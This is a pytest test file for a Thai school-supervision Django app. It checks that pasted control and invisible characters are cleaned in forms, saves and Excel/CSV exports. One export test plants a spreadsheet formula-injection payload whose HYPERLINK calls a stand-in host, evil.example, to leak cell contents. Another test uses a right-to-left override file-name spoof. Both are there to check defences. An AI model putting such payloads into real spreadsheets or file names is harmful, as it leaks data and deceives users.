"""core.text: the one rule for pasted control characters, through forms, services and saves."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django import forms
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from core.models import OfficeProfile
from core.text import clean_instance, clean_text
from correspondence import services as letter_services
from correspondence.models import Letter
from schools import services as school_services
from schools.models import Cluster, School


@pytest.fixture
def office(db):
    profile = OfficeProfile.get()
    profile.letter_code = "ศธ 04123"
    profile.save()
    return profile


def _incoming(user, subject: str) -> Letter:
    return letter_services.letter_register_incoming(
        user=user, subject=subject, sender="สำนักงานคณะกรรมการการศึกษาขั้นพื้นฐาน",
        recipient_text="ผู้อำนวยการกลุ่มนิเทศฯ", external_no="ศธ 04010/ว 1234",
    )  # fmt: skip


THAI = "ที่ ยอดเยี่ยม โพธิ์ กรุงเทพมหานคร อมรรัตนโกสินทร์ มหินทรายุธยา ฯลฯ ๑๒๓ ปี พ.ศ. ๒๕๖๙"
C0 = "".join(chr(c) for c in range(0x20))
SUBJECT = "ขอเชิญประชุมเชิงปฏิบัติการพัฒนาหลักสูตรสถานศึกษา\x0bโรงเรียนในสังกัดสำนักงานเขตพื้นที่การศึกษาประถมศึกษา"


def test_thai_with_stacked_vowels_and_tone_marks_is_never_touched():
    assert clean_text(THAI, multiline=False) == THAI
    assert clean_text(THAI, multiline=True) == THAI
    every_thai_character = "".join(chr(c) for c in range(0x0E01, 0x0E5C) if chr(c).isprintable())
    assert clean_text(every_thai_character, multiline=False) == every_thai_character


def test_word_line_breaks_become_new_lines_in_multiline_text_and_spaces_in_one_line_text():
    pasted = "บรรทัดแรก\r\nบรรทัดสอง\rสาม\x0bสี่\x0cห้า\x85หก\u2028เจ็ด\u2029แปด"
    assert clean_text(pasted, multiline=True) == "บรรทัดแรก\nบรรทัดสอง\nสาม\nสี่\nห้า\nหก\nเจ็ด\nแปด"
    assert clean_text(pasted, multiline=False) == "บรรทัดแรก บรรทัดสอง สาม สี่ ห้า หก เจ็ด แปด"


def test_tabs_stay_in_multiline_text_and_become_spaces_in_one_line_text():
    assert clean_text("ก\tข", multiline=True) == "ก\tข"
    assert clean_text("  ก\tข\n ", multiline=False) == "ก ข"


def test_every_other_control_character_is_removed():
    assert clean_text(f"ก{C0}ข", multiline=True) == "ก\t\n\n\n\nข"  # TAB, LF, VT, FF, CR kept as breaks
    assert clean_text(f"ก{C0}ข", multiline=False) == "ก" + " " * 5 + "ข"
    c1 = "".join(chr(c) for c in range(0x80, 0xA0) if c != 0x85)
    assert clean_text(f"ก\x7f{c1}ข", multiline=False) == "กข"


def test_invisible_and_direction_changing_characters_are_removed_but_zwj_and_zwnj_are_kept():
    spoofed = "รายงาน\u202efdp.exe\u200b\u200e\u2066\ufeffปี"
    assert clean_text(spoofed, multiline=False) == "รายงานfdp.exeปี"
    assert clean_text("👩\u200d💻 ก\u200cข", multiline=False) == "👩\u200d💻 ก\u200cข"


def test_whatever_is_cleaned_can_be_written_to_an_xlsx_and_encoded_as_utf8():
    every_bmp_character = "".join(chr(c) for c in range(0x10000))
    for multiline in (True, False):
        cleaned = clean_text(every_bmp_character, multiline=multiline)
        assert not ILLEGAL_CHARACTERS_RE.search(cleaned)
        cleaned.encode("utf-8")  # no lone surrogate left
        assert "\ufffe" not in cleaned and "\uffff" not in cleaned


def test_cleaning_twice_changes_nothing():
    once = clean_text(f"  {SUBJECT}\r\n{C0}{THAI}  ", multiline=True)
    assert clean_text(once, multiline=True) == once
    line = clean_text(once, multiline=False)
    assert clean_text(line, multiline=False) == line


def test_every_model_save_cleans_char_fields_as_one_line_and_text_fields_as_multiline(db):
    cluster = Cluster(name="กลุ่มโรงเรียน\x0bพระนครศรีอยุธยา\x00", note="บรรทัดแรก\r\nบรรทัดสอง\x0bสาม\x07")
    cluster.save()
    cluster.refresh_from_db()
    assert cluster.name == "กลุ่มโรงเรียน พระนครศรีอยุธยา"
    assert cluster.note == "บรรทัดแรก\nบรรทัดสอง\nสาม"


def test_services_that_bulk_create_clean_what_they_store(users, school):
    from supervision import services as visit_services

    supervisor = users["supervisor"]
    visit = visit_services.visit_create(
        user=supervisor, school=school, date=dt.date(2026, 1, 12), visit_type="classroom"
    )
    visit_services.visit_save(
        user=supervisor, visit=visit, fields={"strengths": "ครูใช้สื่อ\x0bหลากหลาย"}, team=[],
        teachers=[{"name": "นางสาวพิมพ์ชนก\x0bศรีสุวรรณวงศ์\x1f", "grade": "ป.๔\t"}], scores={},
        follow_ups=[{"text": "ติดตาม\x0cการใช้สื่อ", "due_date": dt.date(2026, 2, 1)}],
    )  # fmt: skip
    visit.refresh_from_db()
    assert visit.strengths == "ครูใช้สื่อ\nหลากหลาย"
    teacher = visit.teachers.get()
    assert (teacher.name, teacher.grade) == ("นางสาวพิมพ์ชนก ศรีสุวรรณวงศ์", "ป.๔")
    assert visit.follow_ups.get().text == "ติดตาม การใช้สื่อ"


def test_clean_instance_leaves_fields_that_were_not_loaded_alone(school):
    partial = School.objects.only("pk").get(pk=school.pk)
    assert clean_instance(partial) is partial
    assert "name" not in partial.__dict__  # no query for a deferred field


class _NoteForm(forms.Form):
    title = forms.CharField(max_length=11)  # "ชื่อ เรื่อง" is 11 code points; typed with \x0b and \x00 it was 12
    note = forms.CharField(max_length=5, widget=forms.Textarea)
    password = forms.CharField(strip=False, widget=forms.PasswordInput)


def test_forms_see_cleaned_text_so_a_textarea_line_break_counts_once():
    form = _NoteForm({"title": "ชื่อ\x0bเรื่อง\x00", "note": "ก\r\nข\r\nค", "password": " ลับ\x01 "})
    assert form.is_valid(), form.errors
    assert form.cleaned_data == {"title": "ชื่อ เรื่อง", "note": "ก\nข\nค", "password": " ลับ\x01 "}


def test_a_required_field_holding_only_control_characters_is_refused():
    form = _NoteForm({"title": "\x01\x02\u200b", "note": "ก", "password": "x"})
    assert not form.is_valid()
    assert list(form.errors) == ["title"]


def test_a_name_that_differs_only_by_a_pasted_control_character_is_a_duplicate_not_a_crash(users, client_for):
    school_services.cluster_create(name="กลุ่มโรงเรียนเมืองพระนครศรีอยุธยา")
    client = client_for(users["supervisor"])
    response = client.post(reverse("schools:cluster_create"), {"name": "กลุ่มโรงเรียนเมือง\x01พระนครศรีอยุธยา"})
    assert response.status_code == 200
    assert "มีกลุ่มโรงเรียนชื่อนี้อยู่แล้ว" in response.content.decode()
    assert Cluster.objects.filter(name__startswith="กลุ่มโรงเรียนเมือง").count() == 1


def test_a_letter_with_a_vertical_tab_in_its_subject_registers_and_exports_cleaned(users, client_for, office):
    client = client_for(users["clerk"])
    data = {"external_no": "ศธ 04010/ว 555", "sender": "สำนักงานคณะกรรมการการศึกษาขั้นพื้นฐาน\x07",
            "recipient_text": "ผู้อำนวยการกลุ่มนิเทศ\x0bติดตามและประเมินผลการจัดการศึกษา", "subject": SUBJECT,
            "urgency": "0", "secrecy": "0", "document_type": "external", "channel": "paper"}  # fmt: skip
    assert client.post(reverse("correspondence:incoming_create"), data).status_code == 302
    letter = Letter.objects.get()
    cleaned_subject = SUBJECT.replace("\x0b", " ")
    assert letter.subject == cleaned_subject
    # the receive form asks "ถึง" in a one-line box, so it is one line although the column may hold more
    assert letter.recipient_text == "ผู้อำนวยการกลุ่มนิเทศ ติดตามและประเมินผลการจัดการศึกษา"
    assert letter.sender == "สำนักงานคณะกรรมการการศึกษาขั้นพื้นฐาน"

    response = client.get(reverse("correspondence:register_export", args=["receive"]))
    assert response.status_code == 200
    values = [v for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True) for v in row]
    assert cleaned_subject in values


def test_a_register_export_survives_legacy_control_characters_and_never_writes_a_formula(users, client_for, office):
    _incoming(users["clerk"], "เรื่องปกติ")
    legacy = _incoming(users["clerk"], "เรื่องเก่า")
    # Text saved before the rule existed: written behind the model's back, as old rows are
    # (never NUL: PostgreSQL refuses it in text, so no stored row can hold one).
    Letter.objects.filter(pk=legacy.pk).update(
        subject='=HYPERLINK("http://evil.example/?x="&A1,"คลิก")\x0b\x01', sender="@SUM(1+1)\x1b"
    )
    response = client_for(users["clerk"]).get(reverse("correspondence:register_export", args=["receive"]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    assert '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")\n' in values
    assert "@SUM(1+1)" in values
    assert "เรื่องปกติ" in values


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_school_list_exports_a_school_name_holding_a_control_character(users, client_for, school, fmt):
    School.objects.filter(pk=school.pk).update(name="โรงเรียนวัดพระศรีรัตนศาสดาราม\x0b\x02(ราษฎร์บำรุง)")
    response = client_for(users["supervisor"]).get(reverse("schools:school_export", args=[fmt]))
    assert response.status_code == 200
    if fmt == "xlsx":
        names = [r[3] for r in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)]
    else:
        names = [r[3] for r in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))]
    assert "โรงเรียนวัดพระศรีรัตนศาสดาราม\n(ราษฎร์บำรุง)" in names  # Word's line break kept as one, \x02 gone
